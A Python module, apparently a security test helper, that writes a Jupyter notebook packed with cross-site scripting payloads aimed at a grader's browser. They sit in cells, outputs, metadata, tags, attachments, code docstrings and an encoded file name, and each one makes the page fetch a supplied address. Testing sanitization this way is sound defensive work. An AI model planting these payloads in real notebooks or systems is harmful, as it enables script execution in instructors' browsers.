"""A notebook that tries to reach a server from whatever page shows it."""

import json

#: How markup makes a browser call an address, all without a click.
HTML = {
    "script": "<script src='{at}'></script>",
    "inline": "<script>fetch('{at}')</script>",
    "image": "<img src='{at}'>",
    "onerror": "<img src='data:,' onerror=\"fetch('{at}')\">",
    "svg": "<svg onload=\"fetch('{at}')\"></svg>",
    "iframe": "<iframe src='{at}'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='{at}'>\"></iframe>",
    "style": "<style>@import '{at}';</style>",
    "stylesheet": "<link rel='stylesheet' href='{at}'>",
    "object": "<object data='{at}'></object>",
    "video": "<video src='{at}' autoplay></video>",
    "details": "<details open ontoggle=\"fetch('{at}')\"></details>",
}
#: Those of Markdown; the links wait for a click.
MARKDOWN = {
    "picture": "![]({at})",
    "link": "[here](javascript:fetch('{at}'))",
    "html-link": "<a href=\"javascript:fetch('{at}')\">here</a>",
}
#: Formulas as MathJax reads them.
TEX = "$\\href{{javascript:fetch('{at}')}}{{x}}$"


def everything(ways, origin, place):
    """Every way at once, each with an address of its own."""
    return "\n\n".join(ways[name].format(at=f"{origin}/{place}/{name}") for name in ways)


def cells(origin):
    """A cell of text and one with an output, as any student can save them."""
    html = everything(HTML, origin, "output")
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": html, "text/plain": "x"}}
    return [
        {"cell_type": "markdown", "metadata": {}, "source": everything(HTML | MARKDOWN, origin, "text")},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [output], "source": "1"},
    ]


def ways():
    """What arrives where nobody takes care."""
    return {f"/text/{name}" for name in HTML | MARKDOWN} | {f"/output/{name}" for name in HTML}


def name(origin):
    """A folder's or a file's name, in which there is no slash."""
    letters = ",".join(str(ord(letter)) for letter in f"{origin}/name")
    return f"<img src=x onerror=fetch(String.fromCharCode({letters}))>"


def write(folder, release, origin):
    """The released notebook, filled in by somebody who wants to be read by the instructor's browser."""
    notebook = json.loads(release.read_text(encoding="utf-8"))
    text, output = cells(origin)
    attack = "\n\n".join((text["source"], TEX.format(at=f"{origin}/text/tex")))
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{origin}/attachment')\"/>"
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if not marks.get("solution"):
            continue
        cell["metadata"].update(name=text["source"], tags=[everything(HTML, origin, "tag")])
        if cell["cell_type"] == "code":
            cell["source"] = _code("".join(cell["source"]), everything(HTML, origin, "code"))
            cell["outputs"] = output["outputs"]
        else:
            cell["source"] = f"{attack}\n\n![](attachment:a.svg)"
            cell["attachments"] = {"a.svg": {"image/svg+xml": drawing}}
    notebook["cells"] += [text, output]
    markup = everything(HTML, origin, "metadata")
    notebook["metadata"].update(title=markup, authors=[{"name": markup}])
    notebook["metadata"]["kernelspec"] = {"name": markup, "display_name": markup, "language": markup}
    path = folder / "hostile.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    return path


def _code(stub, markup):
    """The functions of a cell say their markup wherever the grader could quote them."""
    names = [line[4:].partition("(")[0] for line in stub.splitlines() if line.startswith("def ")]
    lines = [f"MARKUP = {markup!r}", 'Odd = type("</td><img src=x>", (str,), {})']
    for name in names:
        lines += [f"def {name}(*_):", f'    """{markup}"""', f"    print({markup!r})"]
        lines += ["    raise ValueError(MARKUP)" if len(name) % 2 else "    return Odd(MARKUP)"]
    return "\n".join(lines)
